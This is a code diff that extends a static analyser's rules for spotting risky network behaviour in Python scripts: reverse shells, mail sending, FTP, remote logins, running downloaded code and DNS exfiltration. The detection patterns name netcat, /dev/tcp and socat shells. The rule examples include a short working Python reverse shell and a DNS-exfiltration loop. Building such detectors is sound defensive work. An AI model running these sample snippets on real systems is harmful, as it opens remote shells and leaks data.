@@ -1,15 +1,28 @@
 /** Protocols besides web requests: sockets, mail, files, remote sessions, servers, and code from the network. */
 import { argument } from '../flow/values.ts';
 import { isLocalHost } from '../network.ts';
+import { anyOf } from './command-patterns.ts';
+import { droppedPrograms, isFetched } from './dropped-programs.ts';
 import { producedBy } from './produced.ts';
 import { readData } from './read-data.ts';
 import { type BehaviourRule, callRule } from './rule.ts';
 
-/** A rule for calls and for the commands that do the same. */
-function withCommands(pattern: RegExp, rule: Parameters<typeof callRule>[0]): BehaviourRule {
-  const { message } = rule;
-  return { ...callRule(rule), onCommand: ({ text }) => (pattern.test(text) ? { message } : undefined) };
-}
+/** What comes in over a connection. */
+const receives =
+  /\.recv(?:from|_into|_string|_json)?$|^(?:socket|asyncio|websockets?|telnetlib)\b.*\.(?:read|readline|readuntil|readexactly|makefile|read_until)$/;
+
+const shellOverNetwork = anyOf(
+  /\/dev\/(?:tcp|udp)\/[^\s/]+\/\S+/,
+  /\b(?:nc|ncat|netcat)(?:\.exe)?\b.*\s(?:-\w*[ec]\s+\S*(?:sh|cmd(?:\.exe)?|powershell)|--(?:sh-)?exec)\b/,
+  /\bmkfifo\b.*\|.*\b(?:nc|ncat|netcat|openssl\s+s_client)\b|\bsocat\b.*\bexec:/,
+  /Net\.Sockets\.TCPClient\b.*(?:GetStream|iex|Invoke-Expression)/,
+);
+
+const remoteSession = anyOf(
+  /(?:^|[;&|(]\s*|\bsudo\s+(?:-\S+\s+)*|\/)(?:ssh|scp|sftp|sshpass|plink|pscp|psftp|psexec(?:64)?|winrs|rsh|mosh|autossh)(?:\.exe)?["']?\s/,
+  /(?:^|[;&|(]\s*|\bsudo\s+)rsync\s.*(?:\w:(?!\\)|-e\s+["']?ssh)/,
+  /\b(?:Enter|New)-PSSession\b|\bInvoke-Command\b.*-(?:ComputerName|Cn|HostName)\b|\bwmic(?:\.exe)?\b.*\/node:|\bansible(?:-playbook)?\s+\S/,
+);
 
 export const rules: readonly BehaviourRule[] = [
   callRule({
@@ -42,26 +55,40 @@ export const rules: readonly BehaviourRule[] = [
     remediation: 'Isolate the machine and find out who put the script there.',
     example:
       'import socket, os, subprocess\ns = socket.socket()\ns.connect(("203.0.113.9", 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])',
-    calls: ['os.dup2', 'pty.spawn', 'subprocess.*', 'os.popen', 'os.system'],
-    onCall: (call, facts) => {
-      const remote = facts.behaviour.calls.some((each) =>
-        /^socket\.(?:socket\(\)\.connect|create_connection)/.test(each.path),
-      );
-      if (!remote) return undefined;
-      const received = call.args[0] !== undefined && producedBy(call.args[0], /\.recv(?:from)?$/);
+    calls: [
+      'os.dup2',
+      'pty.spawn',
+      'subprocess.*',
+      'os.popen',
+      'os.system',
+      'exec',
+      'eval',
+      'asyncio.create_subprocess_shell',
+      'asyncio.create_subprocess_exec',
+    ],
+    onCall: (call) => {
+      const [given] = call.args;
+      const received = given !== undefined && producedBy(given, receives);
       const duplicated =
         call.path === 'os.dup2' &&
-        call.args[0] !== undefined &&
+        given !== undefined &&
         /^(?:[012]|sys\.std(?:in|out|err)\.fileno\(\))$/.test(call.args[1]?.path ?? '') &&
-        producedBy(call.args[0], /^socket\..*\.fileno$/);
-      return received || duplicated
-        ? {
-            message: received
-              ? 'Runs commands that arrive over a socket'
-              : 'Ties standard streams to a socket',
-          }
-        : undefined;
+        producedBy(given, /^socket\..*\.fileno$/);
+      const tied = call.keywords.some(
+        ({ name, value }) =>
+          /^std(?:in|out)$/.test(name) && producedBy(value, /^socket\.(?:socket|create_connection)/),
+      );
+      if (received) return { message: 'Runs commands that arrive over a socket' };
+      return duplicated || tied ? { message: 'Ties standard streams to a socket' } : undefined;
     },
+    onCommand: ({ text }) =>
+      shellOverNetwork.test(text) ? { message: 'Gives a shell to a remote host' } : undefined,
+    onText: ({ text }) =>
+      text.length < 5000 &&
+      (text.includes('/dev/tcp/') || text.includes('TCPClient')) &&
+      shellOverNetwork.test(text)
+        ? { message: 'Gives a shell to a remote host' }
+        : undefined,
   },
   {
     id: 'PYS-NET-009',
@@ -89,6 +116,21 @@ export const rules: readonly BehaviourRule[] = [
       'sendgrid.SendGridAPIClient().send',
       '*.CreateItem().Send',
       '*.sendmail',
+      'O365.Account().new_message().send',
+      'flask_mail.Mail().send',
+      'django.core.mail.EmailMessage().send',
+      'django.core.mail.EmailMultiAlternatives().send',
+      'django.core.mail.send_mass_mail',
+      'resend.Emails.send',
+      'postmarker.core.PostmarkClient().emails.send',
+      'mailjet_rest.Client().send.create',
+      'emails.Message().send',
+      'emails.html().send',
+      'aiosmtplib.SMTP().send_message',
+      'redmail.outlook.send',
+      '*.send_raw_email',
+      '*.send_email',
+      '*.messages().send',
     ],
     onCall: (call) => {
       const sent = readData(
@@ -97,8 +139,18 @@ export const rules: readonly BehaviourRule[] = [
       if (sent === undefined) return { message: 'Sends mail' };
       return { message: `Sends mail with data of a ${sent}`, severity: 'medium', details: { source: sent } };
     },
+    onCommand: ({ text }) =>
+      /(?:^|[\s;&|(/])(?:mailx?\s+(?:-\w+\s+\S+\s+)*-s\s|mutt\s+.*-s\s|sendmail\s+(?:-t\b|\S+@)|swaks\s|msmtp\s)|\bSend-MailMessage\b/.test(
+        text,
+      )
+        ? { message: 'Sends mail' }
+        : undefined,
+    onHost: ({ endpoint, direction }) =>
+      direction === 'upload' && endpoint.host === 'graph.microsoft.com' && /\/sendMail$/i.test(endpoint.path)
+        ? { message: 'Sends mail' }
+        : undefined,
   },
-  callRule({
+  {
     id: 'PYS-NET-010',
     category: 'network',
     title: 'Transfers files with FTP',
@@ -108,10 +160,26 @@ export const rules: readonly BehaviourRule[] = [
     rationale: 'FTP sends the password and the files in clear.',
     remediation: 'Use SFTP or FTPS.',
     example: 'import ftplib\nftplib.FTP("ftp.partner-site.com", "user", pw).storbinary("STOR a.csv", f)',
-    message: 'Uses FTP, which is not encrypted',
-    calls: ['ftplib.FTP', 'telnetlib.Telnet', 'telnetlib3.open_connection', 'tftpy.TftpClient'],
-  }),
-  withCommands(/^\s*(?:(?:ssh|scp|sftp|sshpass|plink|pscp|psexec)(?:\.exe)?\s|rsync\s.*\w:)/i, {
+    calls: [
+      'ftplib.FTP',
+      'ftputil.FTPHost',
+      'aioftp.Client',
+      'aioftp.Client.context',
+      'telnetlib.Telnet',
+      'telnetlib3.open_connection',
+      'tftpy.TftpClient',
+    ],
+    onCall: () => ({ message: 'Uses FTP, which is not encrypted' }),
+    onCommand: ({ text }) =>
+      /(?:^|[\s;&|(/])(?:ftp|lftp|tftp|ncftpput|ncftpget|telnet)(?:\.exe)?\s+(?:-\w|[\w.]+\.\w)/.test(text)
+        ? { message: 'Uses FTP, which is not encrypted' }
+        : undefined,
+    onHost: ({ endpoint, direction }) =>
+      endpoint.scheme === 'ftp' && direction !== 'named'
+        ? { message: 'Uses FTP, which is not encrypted' }
+        : undefined,
+  },
+  {
     id: 'PYS-NET-011',
     category: 'network',
     title: 'Logs in to other machines',
@@ -120,7 +188,6 @@ export const rules: readonly BehaviourRule[] = [
     rationale: 'The script opens sessions on other machines and runs commands or copies files there.',
     remediation: 'Use key-based accounts with the least rights, and check host keys.',
     example: 'import paramiko\nparamiko.SSHClient().connect("srv01.corp.local")',
-    message: 'Opens a session on another machine',
     calls: [
       'paramiko.SSHClient().connect',
       'paramiko.Transport',
@@ -137,9 +204,36 @@ export const rules: readonly BehaviourRule[] = [
       'impacket.smbconnection.SMBConnection',
       'smbclient.register_session',
       'wmi.WMI',
+      'paramiko.Transport().connect',
+      'netmiko.ConnectHandler',
+      'napalm.get_network_driver',
+      'scrapli.Scrapli',
+      'spur.SshShell',
+      'pssh.clients.ParallelSSHClient',
+      'ansible_runner.run',
+      'pypsrp.client.Client',
+      'pypsrp.wsman.WSMan',
+      'rpyc.connect',
+      'rpyc.classic.connect',
+      'impacket.dcerpc.v5.transport.DCERPCTransportFactory',
+      'impacket.examples.secretsdump.RemoteOperations',
+      'sshtunnel.SSHTunnelForwarder',
+      'fabric.SerialGroup',
+      'fabric.ThreadingGroup',
+      'smbclient.shutil.copyfile',
+      '*.ConnectServer',
     ],
-    when: (call) => call.path !== 'wmi.WMI' || argument(call, 0, 'computer') !== undefined,
-  }),
+    onCall: (call) => {
+      if (call.path === 'wmi.WMI' && argument(call, 0, 'computer') === undefined) return undefined;
+      if (call.name === 'ConnectServer' && /^(?:\.|localhost)?$/.test(call.args[0]?.text ?? ''))
+        return undefined;
+      // Each library is a fact of its own.
+      const library = call.path.startsWith('?') ? '' : ` (${call.path.split('.', 1)[0]})`;
+      return { message: `Opens a session on another machine${library}` };
+    },
+    onCommand: ({ text }) =>
+      remoteSession.test(text) ? { message: 'Opens a session on another machine' } : undefined,
+  },
   callRule({
     id: 'PYS-NET-015',
     category: 'network',
@@ -187,19 +281,57 @@ export const rules: readonly BehaviourRule[] = [
       'eval',
       'compile',
       'os.system',
+      'os.popen',
+      'os.startfile',
+      'os.exec*',
       'subprocess.*',
       'marshal.loads',
       'pickle.loads',
+      'dill.loads',
       'types.FunctionType',
+      'runpy.run_path',
+      'builtins.exec',
     ],
     onCall: (call) => {
-      const given = call.args[0];
-      if (given === undefined) return undefined;
-      const fetched = producedBy(
-        given,
-        /^(?:requests|httpx|urllib\.request|urllib2?|aiohttp|urllib3)\b.*\.(?:get|post|request|urlopen|read)$/,
-      );
-      return fetched ? { message: `Passes downloaded content to ${call.path}` } : undefined;
+      const [given] = call.args;
+      return given !== undefined && isFetched(given)
+        ? { message: `Passes downloaded content to ${call.path}` }
+        : undefined;
+    },
+    onModule: droppedPrograms,
+  },
+  {
+    id: 'PYS-NET-017',
+    category: 'network',
+    title: 'Puts data into names that it looks up',
+    severity: 'high',
+    confidence: 'medium',
+    cwe: 200,
+    rationale: 'Queries for names leave nearly every network; data in them goes to whoever owns the domain.',
+    remediation: 'Find out who owns the domain, and what was sent.',
+    example:
+      'import base64, socket\nfor part in parts:\n    socket.gethostbyname(f"{base64.b32encode(part).decode()}.data.partner-site.com")',
+    calls: [
+      'socket.gethostbyname',
+      'socket.gethostbyname_ex',
+      'socket.getaddrinfo',
+      'dns.resolver.resolve',
+      'dns.resolver.query',
+      'dns.resolver.Resolver().resolve',
+      'dns.resolver.Resolver().query',
+      'dns.message.make_query',
+    ],
+    onCall: (call, facts) => {
+      const [name] = call.args;
+      const node = call.nodes[0];
+      if (name?.text === undefined || node === undefined || !/^\{\}[\w.{}-]*\.[a-z]{2,}\.?$/.test(name.text))
+        return undefined;
+      const meant = facts.folder().meant(node, call.start);
+      const source = facts.module.text.slice(meant.start, Math.min(meant.end, meant.start + 400));
+      return readData([name]) !== undefined ||
+        /(?:b32|b64|b16|urlsafe_b64|hex)(?:encode|lify)?\(/.test(source)
+        ? { message: 'Puts data into names that it looks up' }
+        : undefined;
     },
   },
 ];
